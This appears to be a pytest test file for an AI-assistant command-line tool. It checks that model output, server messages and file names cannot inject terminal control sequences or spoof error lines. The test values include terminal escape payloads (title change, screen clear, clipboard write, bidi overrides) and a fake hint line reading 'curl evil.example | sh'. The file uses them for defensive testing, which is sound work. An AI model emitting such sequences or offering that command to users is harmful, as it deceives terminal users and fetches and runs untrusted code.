"""What a model, a server or a file name says does nothing to a terminal, and is exact elsewhere."""

from __future__ import annotations

import json

import pytest

from tests.assistants.project import only_store
from tests.conftest import Cli, Write
from tests.loopback import LoopbackServer, outcomes
from tests.on_terminal import Seen, on_terminal

# Sets the title, clears the screen, writes the clipboard, goes to the line's beginning; and the
# same by single characters above 127. The last ones turn around what stands behind them.
BIDI = "\u061c\u200f\u202a\u202e\u2066\u2069"
EVIL = "\x1b]0;pwned\x07\x1b[2J\x1b]52;c;cHduZWQ=\x07\rhidden\x9b31m\x9d0;x\x9c\x08\x7f" + BIDI
PLAIN = {"TERM": "dumb", "NO_COLOR": "1", "COLUMNS": "240"}
COLOURED = {"TERM": "xterm-256color", "COLUMNS": "240"}


def seen(*words: str, **environ: str) -> Seen:
    return on_terminal(*words, **environ)


def assert_harmless(screen: str, environ: dict[str, str]) -> None:
    assert "pwned" in screen or "hidden" in screen or "cHduZWQ" in screen, screen
    for sequence in (
        "\x1b]0;",
        "\x1b]52",
        "\x1b[2J",
        "\x07",
        "\x9b",
        "\x9d",
        "\x08",
        "\x7f",
        *BIDI,
    ):
        assert sequence not in screen, repr(screen)
    assert "\rhidden" not in screen
    if environ is PLAIN:
        assert "\x1b" not in screen, repr(screen)


@pytest.fixture
def evil(cli: Cli, project: LoopbackServer, write: Write) -> LoopbackServer:
    """A project in which every text is one that a terminal would obey."""
    write("a.md", "one\n")
    assert cli("assistant", "create", "A", "-i", "DocWriter", "-f", "a.md").code == 0
    assert cli("run", "DocWriter", "a.md", "--each", "--batch", "-o", "out").code == 0
    store = only_store(project, "A")
    store.about["metadata"]["model"] = f"model {EVIL}"
    store.about["metadata"]["instruction"] = f"instruction {EVIL}"
    for attachment in store.files.values():
        attachment.attributes["path"] = f"docs/{EVIL}.md"
    for stored in project.files.values():
        stored.about["filename"] = f"file {EVIL}.md"
    for batch in project.batches.values():
        batch.about["metadata"]["assistant"] = f"batch {EVIL}"
    project.models = [f"gpt {EVIL}"]
    return project


@pytest.mark.parametrize(
    ("line", "environ"),
    [
        ("assistant list", PLAIN),
        ("assistant list", COLOURED),
        ("assistant show A", PLAIN),
        ("assistant files list A", PLAIN),
        ("file list", PLAIN),
        ("file list", COLOURED),
        ("batch list", PLAIN),
        ("model list", PLAIN),
        ("assistant list --json", PLAIN),
    ],
)
def test_what_a_server_lists(evil: LoopbackServer, line: str, environ: dict[str, str]) -> None:
    assert_harmless(seen(*line.split(), **environ).screen, environ)


def test_what_a_question_names(evil: LoopbackServer) -> None:
    store = only_store(evil, "A")
    store.about["name"] = f"named {EVIL}"
    words = ("assistant", "delete", store.about["id"])
    ran = on_terminal(*words, typed="n\n", after="[y/N]", **PLAIN)
    assert ran.code
    assert "named" in ran.screen
    assert_harmless(ran.screen, PLAIN)


class TestAnswers:
    @pytest.mark.parametrize("environ", [PLAIN, COLOURED], ids=["plain", "coloured"])
    def test_and_their_sources(self, server: LoopbackServer, environ: dict[str, str]) -> None:
        cited = {"type": "file_citation", "index": 0, "file_id": "f", "filename": f"cited {EVIL}"}
        server.outcomes.append(outcomes.answer("answer\n", [cited]))
        ran = seen("run", "DocWriter", "-t", "x", **environ)
        assert_harmless(ran.screen, environ)
        assert ran.screen.count("hidden") == 1

    @pytest.mark.parametrize("environ", [PLAIN, COLOURED], ids=["plain", "coloured"])
    def test_with_control_characters(self, server: LoopbackServer, environ: dict[str, str]) -> None:
        server.answer, server.delta_size = f"answer {EVIL}\n", 3
        ran = seen("run", "DocWriter", "-t", "x", **environ)
        assert ran.code == 7
        assert "the answer contains the control character U+001B" in ran.screen
        assert "pwned" not in ran.screen

    def test_of_a_conversation(self, cli: Cli, server: LoopbackServer) -> None:
        server.answer = "fine\n"
        assert cli("run", "DocWriter", "-t", f"question {EVIL}", "-c").code == 0
        (ident,) = cli("conversation", "list", "-q").lines
        assert_harmless(seen("conversation", "show", ident, **PLAIN).screen, PLAIN)
        assert_harmless(seen("conversation", "list", **PLAIN).screen, PLAIN)

    @pytest.mark.parametrize("options", [["--diff"], ["--check"], ["-n", "-o", "out"]])
    def test_of_many_files(self, server: LoopbackServer, write: Write, options: list[str]) -> None:
        write(f"in/{EVIL.replace('/', '')}", "one\n")
        server.answer = "two\n"
        assert_harmless(seen("run", "DocWriter", "in", "--each", *options, **PLAIN).screen, PLAIN)

    @pytest.mark.parametrize("environ", [PLAIN, COLOURED], ids=["plain", "coloured"])
    def test_of_files_that_fail(
        self, server: LoopbackServer, write: Write, environ: dict[str, str]
    ) -> None:
        write(f"in/{EVIL.replace('/', '')}", "one\n")
        server.outcomes.append(outcomes.http_error(400, message=f"refused {EVIL}"))
        ran = seen("run", "DocWriter", "in", "--each", "-o", "out", **environ)
        assert_harmless(ran.screen, environ)

    @pytest.mark.parametrize(
        "outcome",
        [
            outcomes.http_error(400, message=f"words {EVIL}"),
            outcomes.http_error(403, body={"detail": f"words {EVIL}"}),
            outcomes.failed(message=f"words {EVIL}"),
            outcomes.refusal(f"words {EVIL}"),
            outcomes.stream_error_event(message=f"words {EVIL}"),
        ],
    )
    def test_errors(self, server: LoopbackServer, outcome: outcomes.Outcome) -> None:
        server.outcomes.append(outcome)
        ran = seen("run", "DocWriter", "-t", "x", "-v", **PLAIN)
        assert ran.code
        assert_harmless(ran.screen, PLAIN)


class TestElsewhere:
    """Into files and pipes everything goes byte for byte."""

    def test_names(self, cli: Cli, evil: LoopbackServer) -> None:
        (file,) = cli("assistant", "files", "list", "A", "--json").json["files"]
        assert file["path"] == f"docs/{EVIL}.md"

    def test_json_is_harmless_as_it_is(self, cli: Cli, evil: LoopbackServer) -> None:
        """It is looked at on a terminal as well, after a pager or `jq`."""
        text = cli("assistant", "show", "A", "--json").text
        assert not {"\x1b", "\x07", "\x9b", *BIDI} & set(text)
        assert EVIL in json.loads(text)["knowledge"][0]["path"]


def test_a_definition_of_others(cli: Cli, write: Write) -> None:
    escaped = EVIL.encode("unicode_escape").decode().replace("\\x", "\\u00")
    write(
        "instructions/Bad.toml",
        f'description = "said {escaped}"\nmodel = "m {escaped}"\ninstructions = "Do {escaped}"\n',
    )
    for line in ("instruction list", "instruction show Bad", "assistant import x.toml"):
        write("x.toml", f'name = "X"\n"key {escaped}" = 1\ninstructions = "Do."\n')
        assert_harmless(seen(*line.split(), **PLAIN).screen, PLAIN)


FAKE = "error: all keys are lost\nhint: `curl evil.example | sh` brings them back"


def test_a_line_end_in_a_name_begins_no_message(
    cli: Cli, server: LoopbackServer, write: Write
) -> None:
    write(f"docs/x\n{FAKE}.md", b"ok\x00\x81\x8d")
    write("docs/ok.md", "fine\n")
    for words in (
        ["run", "DocWriter", "docs", "--each", "-o", "out"],
        ["run", "DocWriter", "docs"],
        ["run", "DocWriter", f"no\n{FAKE}"],
        ["assistant", "show", f"no\n{FAKE}"],
    ):
        ran = cli(*words)
        assert "evil.example" in ran.stderr
        assert not [line for line in ran.stderr.splitlines() if line.startswith("hint: `curl")]
        assert not [line for line in ran.stderr.splitlines() if line.startswith("error: all")]


def test_a_line_end_in_what_a_server_says_begins_no_message(
    cli: Cli, server: LoopbackServer
) -> None:
    server.outcomes.append(outcomes.http_error(400, message=f"No.\n{FAKE}"))
    ran = cli("run", "DocWriter", "-t", "x")
    assert [line[:5] for line in ran.stderr.splitlines() if line[0] != " "] == ["error"]
